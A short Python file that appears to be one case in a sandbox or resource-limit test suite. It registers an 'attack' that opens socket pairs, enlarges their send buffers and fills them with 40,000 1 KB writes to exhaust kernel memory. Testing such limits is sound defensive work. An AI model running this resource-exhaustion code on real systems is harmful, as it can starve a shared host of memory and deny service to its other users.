"""Takes the kernel's memory in pairs of sockets, with buffers as large as they can be (here: 40,000
times 1 KB).
"""

import contextlib
import socket

from attack import attack, held


@attack
def _():
    sent = 0
    while sent < 40_000:
        pair = socket.socketpair()
        held.extend(pair)
        for end in pair:
            with contextlib.suppress(OSError):
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            end.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while sent < 40_000:
                    end.send(bytes(1 << 10))
                    sent += 1
